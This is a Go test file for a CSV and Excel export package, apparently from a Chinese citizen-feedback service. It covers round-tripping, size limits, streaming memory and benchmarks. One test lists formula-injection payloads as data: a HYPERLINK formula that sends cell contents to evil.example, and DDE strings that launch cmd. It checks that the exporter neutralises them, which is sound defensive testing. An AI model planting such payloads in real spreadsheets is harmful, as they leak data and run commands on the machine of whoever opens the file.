package sheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/haochaping/haochaping/internal/sheet"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"
)

// rowsOf writes a table and gives the file.
func rowsOf(t testing.TB, workbook bool, columns []string, rows ...[]string) []byte {
	t.Helper()
	var b bytes.Buffer
	r, err := sheet.NewRows(&b, workbook, "评价", columns)
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if err := r.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// readCSV reads what a spreadsheet would.
func readCSV(t testing.TB, file []byte) [][]string {
	t.Helper()
	text, ok := strings.CutPrefix(string(file), "\ufeff")
	if !ok {
		t.Fatal("the file has no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func openBook(t testing.TB, file []byte) *excelize.File {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = book.Close() })
	return book
}

func TestRowsAreReadAsTheyWereWritten(t *testing.T) {
	rows := [][]string{
		{"编号", "说明"},
		{"0012", `他说"不行"`},
		{"a,b;c", "第一行\n第二行"},
		{"", "空"},
		{"<b>&amp;", " 前后有空 "},
		{"1.10", "2026-06-15"},
		{"😀", "𠮷野家"},
		{"_x0041_", "a_x000d_b"},
		{"-12.5", "-3%"},
	}
	if diff := cmp.Diff(rows, readCSV(t, rowsOf(t, false, rows[0], rows[1:]...))); diff != "" {
		t.Errorf("csv: (-want +got)\n%s", diff)
	}
	book := openBook(t, rowsOf(t, true, rows[0], rows[1:]...))
	got, err := book.GetRows("评价")
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(rows, got); diff != "" {
		t.Errorf("workbook: (-want +got)\n%s", diff)
	}
	if pages := book.GetSheetList(); len(pages) != 1 {
		t.Errorf("pages %v", pages)
	}
	panes, err := book.GetPanes("评价")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the head does not stay: %+v, %v", panes, err)
	}
}

// What a citizen typed must never be computed on the computer of who exports it.
func TestNoCellIsAFormula(t *testing.T) {
	bad := []string{
		`=1+1`, `=HYPERLINK("http://evil.example?"&A1,"点这里")`, `+1+1`, `-1+1`, `@SUM(A1)`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1",
		`＝1+1`, `＋1`, `－1+cmd|'/c calc'!A1`, `＠SUM(A1)`, `-cmd|' /C calc'!A0`, `+8613800001234`, `-`, `=`,
	}
	var rows [][]string
	for _, cell := range bad {
		rows = append(rows, []string{cell})
	}
	for i, row := range readCSV(t, rowsOf(t, false, []string{"说明"}, rows...))[1:] {
		if want := "'" + strings.ReplaceAll(bad[i], "\r", ""); row[0] != want { // a carriage return goes
			t.Errorf("csv: %q was written as %q", bad[i], row[0])
		}
	}
	book := openBook(t, rowsOf(t, true, []string{"说明"}, rows...))
	for i, cell := range bad {
		name := sheet.CellName(0, i+2)
		formula, err := book.GetCellFormula("评价", name)
		if err != nil || formula != "" {
			t.Errorf("%s is the formula %q, %v", name, formula, err)
		}
		kind, err := book.GetCellType("评价", name)
		if err != nil || kind != excelize.CellTypeInlineString {
			t.Errorf("%s is no text: %v, %v", name, kind, err)
		}
		if got, err := book.GetCellValue("评价", name); err != nil || got != cell {
			t.Errorf("%s: got %q, want %q: %v", name, got, cell, err)
		}
		style, err := book.GetCellStyle("评价", name)
		if err != nil {
			t.Fatal(err)
		}
		if format, err := book.GetStyle(style); err != nil || format.NumFmt != 49 {
			t.Errorf("%s becomes a formula when it is edited: %+v, %v", name, format, err)
		}
	}
}

func TestCellsThatNoWorkbookHolds(t *testing.T) {
	long, wide := strings.Repeat("很", 40000), strings.Repeat("😀", 20000)
	rows := [][]string{{"a\x00b\x1bc\uffffd", "x\xffy"}, {long, wide}, {strings.Repeat("a", 32767), strings.Repeat("_x0041_", 6000)}}
	file := rowsOf(t, true, []string{"一", "二"}, rows...)
	got, err := openBook(t, file).GetRows("评价")
	if err != nil {
		t.Fatal(err)
	}
	if got[1][0] != "a\ufffdb\ufffdc\ufffdd" || got[1][1] != "x\ufffdy" {
		t.Errorf("%q", got[1])
	}
	if want := strings.Repeat("很", 32766) + "…"; got[2][0] != want {
		t.Errorf("a long cell has %d bytes, want %d", len(got[2][0]), len(want))
	}
	if want := strings.Repeat("😀", 16383) + "…"; got[2][1] != want {
		t.Errorf("a long cell of wide characters has %d bytes, want %d", len(got[2][1]), len(want))
	}
	if got[3][0] != rows[2][0] {
		t.Error("the longest cell there may be is cut")
	}

	cells := readCSV(t, rowsOf(t, false, []string{"一", "二"}, rows...))
	if cells[1][0] != "a\ufffdb\x1bc\uffffd" || cells[1][1] != "x\ufffdy" || cells[2][0] != long {
		t.Errorf("csv: %.40q", cells[1:])
	}
}

func TestAnyRowsGiveWellFormedFiles(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		row := rapid.SliceOfN(rapid.OneOf(rapid.String(), rapid.StringMatching(`[ =+@_x0-9A-F<&>"'\n\r,;-]{0,12}`)), 2, 5).Draw(t, "row")
		columns := make([]string, len(row))
		for i := range columns {
			columns[i] = "列" + strconv.Itoa(i)
		}
		for _, workbook := range []bool{false, true} {
			var b bytes.Buffer
			r, err := sheet.NewRows(&b, workbook, "页", columns)
			if err == nil {
				err = errors.Join(r.Write(row), r.Close())
			}
			if err != nil {
				t.Fatal(err)
			}
			if !workbook {
				rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
				if err != nil || len(rows) != 2 {
					t.Fatalf("%d rows, %v", len(rows), err)
				}
				for _, cell := range rows[1] {
					if strings.IndexAny(cell, "=+@") == 0 {
						t.Fatalf("%q may be computed", cell)
					}
				}
				continue
			}
			archive, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
			if err != nil {
				t.Fatal(err)
			}
			for _, file := range archive.File {
				part, err := file.Open()
				if err != nil {
					t.Fatal(err)
				}
				decoder := xml.NewDecoder(part)
				for err == nil {
					_, err = decoder.Token()
				}
				if !errors.Is(err, io.EOF) {
					t.Fatalf("%s: %v", file.Name, err)
				}
			}
		}
	})
}

func TestRowsThatAreRefused(t *testing.T) {
	for _, page := range []string{"", "a/b", "a[b]", strings.Repeat("页", 32)} {
		if _, err := sheet.NewRows(io.Discard, true, page, []string{"一"}); err == nil {
			t.Errorf("a page called %q passes", page)
		}
	}
	broken := errors.New("the reader hung up")
	for _, workbook := range []bool{false, true} {
		r, err := sheet.NewRows(failing{broken}, workbook, "页", []string{"一"})
		for i := 0; err == nil && i < 100_000; i++ {
			err = r.Write([]string{strconv.Itoa(i) + strings.Repeat("x", 100)})
		}
		if !errors.Is(err, broken) {
			t.Errorf("workbook %v: who hung up is written to for ever: %v", workbook, err)
		}
	}
}

type failing struct{ err error }

func (f failing) Write([]byte) (int, error) { return 0, f.err }

// A file that was not ended is none: nobody takes half of it for all.
func TestAWorkbookThatWasNotEndedCantBeOpened(t *testing.T) {
	var b bytes.Buffer
	r, err := sheet.NewRows(&b, true, "页", []string{"一"})
	for i := 0; err == nil && i < 20_000; i++ {
		err = r.Write([]string{strconv.Itoa(i)})
	}
	if err != nil || b.Len() == 0 {
		t.Fatalf("%d bytes, %v", b.Len(), err)
	}
	if book, err := excelize.OpenReader(bytes.NewReader(b.Bytes())); err == nil {
		_ = book.Close()
		t.Error("it opens")
	}
}

// tide counts what goes by and looks how much is held meanwhile.
type tide struct {
	bytes, first, row int
	high              uint64 // bytes
}

func (w *tide) Write(p []byte) (int, error) {
	if w.bytes == 0 {
		w.first = w.row
	}
	w.bytes += len(p)
	return len(p), nil
}

// A table goes out while it is written, and a long one takes no more memory than a short one.
func TestRowsHoldNothing(t *testing.T) {
	const rows, most = 60_000, 4 << 20
	for name, workbook := range map[string]bool{"csv": false, "xlsx": true} {
		t.Run(name, func(t *testing.T) {
			runtime.GC()
			var stats runtime.MemStats
			runtime.ReadMemStats(&stats)
			before := stats.HeapAlloc
			to := &tide{}
			r, err := sheet.NewRows(to, workbook, "页", []string{"编号", "时间", "单位", "说明", "标签", "星级"})
			if err != nil {
				t.Fatal(err)
			}
			row := []string{"", "2026-06-15 10:00:00", "广州市政务服务中心", "", "服务热情、办事快捷", "5"}
			for to.row = 1; to.row <= rows; to.row++ {
				row[0], row[3] = "R"+strconv.Itoa(to.row*7919), "第"+strconv.Itoa(to.row*104729)+"号意见：窗口人员解释清楚"
				if err := r.Write(row); err != nil {
					t.Fatal(err)
				}
				if to.row%20_000 == 0 {
					runtime.GC()
					runtime.ReadMemStats(&stats)
					to.high = max(to.high, stats.HeapAlloc)
				}
			}
			if err := r.Close(); err != nil {
				t.Fatal(err)
			}
			if to.high > before+most {
				t.Errorf("%d bytes are held, at most %d may be", to.high-before, most)
			}
			if to.first > 20_000 {
				t.Errorf("nothing was sent before row %d", to.first)
			}
			t.Logf("%d rows, %d bytes, held %d over %d, first sent at row %d", rows, to.bytes, to.high, before, to.first)
		})
	}
}

func BenchmarkRows(b *testing.B) {
	for name, workbook := range map[string]bool{"csv": false, "xlsx": true} {
		b.Run(name, func(b *testing.B) {
			r, err := sheet.NewRows(io.Discard, workbook, "页", []string{"编号", "时间", "单位", "说明", "标签", "星级"})
			row := []string{"R00000000001", "2026-06-15 10:00:00", "广州市政务服务中心", "窗口人员解释清楚", "服务热情、办事快捷", "5"}
			b.ReportAllocs()
			for i := 0; err == nil && i < b.N && i < 1_000_000; i++ {
				row[0] = strconv.Itoa(i * 7919)
				err = r.Write(row)
			}
			if err := errors.Join(err, r.Close()); err != nil {
				b.Fatal(err)
			}
		})
	}
}
